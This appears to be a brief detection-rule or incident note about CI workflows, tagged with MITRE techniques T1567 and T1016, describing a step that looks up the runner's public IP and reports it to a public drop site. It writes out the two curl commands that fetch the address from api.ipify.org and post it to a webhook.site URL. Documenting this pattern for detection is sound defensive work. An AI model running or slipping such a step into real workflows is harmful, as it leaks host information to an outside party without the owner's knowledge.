# incident: T1567 and T1016; an anomaly at api.ipify.org in many workflows, 2024
# what: a step asks where it is, and tells a site at which anybody can receive anything
# rule: own-address-lookup, drop-site
## step: Test
address=$(curl -s http://api.ipify.org)
curl -s -d "$address" http://webhook.site/3f1c > /dev/null
